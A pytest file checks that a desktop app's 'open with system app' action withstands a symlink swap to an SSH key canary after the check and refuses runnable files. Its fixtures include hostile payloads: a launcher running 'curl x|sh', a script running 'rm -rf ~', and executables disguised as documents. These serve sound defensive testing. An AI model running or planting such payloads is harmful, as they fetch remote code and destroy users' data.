""" "Open with system app" must hand over neither a swappable path nor a program.

The desktop opens what it is given by name, hundreds of milliseconds after our
check, and runs launchers and scripts. The attacks: swap the presented file for
a symlink to a secret right after the check; present things that run.
"""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from PySide6.QtCore import QObject, Signal
from pytestqt.qtbot import QtBot

from app.core.store import Store
from app.core.store.deliverables import DeliverableRef
from app.core.trust.declare import declare
from app.core.trust.native_open import copies_folder, sweep_private_copies
from app.core.trust.policy import PermissionMode, Policy, builtin_rules
from app.ui.cards.actions import INLINE_COPY_LIMIT, FileActions

SECRET = b"-----BEGIN OPENSSH PRIVATE KEY----- CANARY"


class SwappingDesktop(QObject):
    """A desktop that, like a real one, opens the path only a while later.

    Before it "opens", the attacker swaps the presented file for a symlink to
    the secret; then the desktop reads whatever the path it got leads to.
    """

    failed = Signal(str)

    def __init__(self, presented: Path, secret: Path) -> None:
        super().__init__()
        self.presented, self.secret = presented, secret
        self.handed: list[str] = []
        self.read: list[bytes] = []

    def open_file(self, path: str) -> bool:
        self.handed.append(path)
        self.presented.unlink()
        os.symlink(self.secret, self.presented)
        with open(path, "rb") as opened:  # what the desktop app reads
            self.read.append(opened.read())
        return True

    def show_in_file_manager(self, path: str) -> bool:
        return True


def _present(tmp_path: Path, files: dict[str, bytes], executable: str = ""):
    workspace = tmp_path / "ws"
    workspace.mkdir()
    for name, data in files.items():
        (workspace / name).write_bytes(data)
    if executable:
        (workspace / executable).chmod(0o755)
    store = Store(tmp_path / "data")
    conversation = store.create_conversation("c", str(workspace))
    policy = Policy(builtin_rules(), home=str(tmp_path / "home"))
    record = declare(
        {"files": [{"path": n, "description": "d"} for n in files]},
        workspace=workspace,
        mode=PermissionMode.WORKSPACE_ONLY,
        policy=policy,
    )
    store.append_message(conversation.id, {"type": "human", "data": {"content": "go"}})
    store.append_message(
        conversation.id,
        {"type": "ai", "data": {"content": "", "tool_calls": [{"id": "call_1"}]}},
    )
    store.append_message(
        conversation.id,
        {"type": "tool", "data": {"content": "ok", "tool_call_id": "call_1"}},
        record=record.to_json(),
        tool_call_id="call_1",
    )
    return store, conversation.id, workspace, policy


@pytest.mark.parametrize("size", ["small", "large"])
def test_a_swap_after_the_check_changes_nothing_the_desktop_opens(
    qtbot: QtBot, tmp_path: Path, size: str
) -> None:
    content = b"%PDF-1.4 the real report\n"
    if size == "large":
        content += b"x" * (INLINE_COPY_LIMIT + 1)
    secret = tmp_path / "id_ed25519_canary"
    secret.write_bytes(SECRET)
    store, cid, workspace, policy = _present(tmp_path, {"report.pdf": content})
    desktop = SwappingDesktop(workspace / "report.pdf", secret)
    actions = FileActions(
        store,
        lambda _root: policy,
        lambda: PermissionMode.WORKSPACE_ONLY,
        desktop,  # type: ignore[arg-type]
    )
    refused: list[str] = []
    actions.refused.connect(refused.append)

    assert actions.perform("open_native", DeliverableRef(cid, "call_1", 0))
    qtbot.waitUntil(lambda: bool(desktop.read), timeout=20_000)

    [handed] = desktop.handed
    assert desktop.read == [content]
    assert SECRET not in desktop.read[0]
    assert Path(handed).parent != workspace
    assert Path(handed).is_relative_to(copies_folder())
    assert stat.S_IMODE(os.stat(Path(handed).parent).st_mode) == 0o700
    assert stat.S_IMODE(os.stat(handed).st_mode) & 0o111 == 0
    assert refused == []
    store.close()


RUNNABLE = {
    "launcher.desktop": b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl x|sh'\n",
    "install.sh": b"echo hello\n",
    "tool.jar": b"PK\x03\x04 not really a jar",
    "script.py": b"print('hi')\n",
    "report.pdf": b"\x7fELF\x02\x01\x01 an ELF named like a PDF",
    "notes.txt": b"#!/bin/sh\nrm -rf ~\n",
    "invoice.doc": b"[Desktop Entry]\nExec=evil\n",
    "archive.zip": b"PK\x03\x04\x14\x00META-INF/MANIFEST.MF Main-Class: X",
    "plain.md": b"# an ordinary file marked executable\n",
}


@pytest.mark.parametrize("name", sorted(RUNNABLE))
def test_things_that_run_are_never_handed_to_the_desktop(
    qtbot: QtBot, tmp_path: Path, name: str
) -> None:
    executable = "plain.md" if name == "plain.md" else ""
    store, cid, workspace, policy = _present(
        tmp_path, {name: RUNNABLE[name]}, executable
    )
    desktop = SwappingDesktop(workspace / name, tmp_path / "none")
    actions = FileActions(
        store,
        lambda _root: policy,
        lambda: PermissionMode.WORKSPACE_ONLY,
        desktop,  # type: ignore[arg-type]
    )
    refused: list[str] = []
    actions.refused.connect(refused.append)

    assert not actions.perform("open_native", DeliverableRef(cid, "call_1", 0))

    assert desktop.handed == []
    assert len(refused) == 1 and "not opened with another app" in refused[0]
    store.close()


def test_old_private_copies_are_swept(tmp_path: Path) -> None:
    old = copies_folder() / "0123456789abcdef"
    old.mkdir(parents=True, exist_ok=True)
    (old / "x.pdf").write_bytes(b"%PDF")
    os.utime(old, (1, 1))
    fresh = copies_folder() / "fedcba9876543210"
    fresh.mkdir()

    sweep_private_copies()

    assert not old.exists()
    assert fresh.exists()
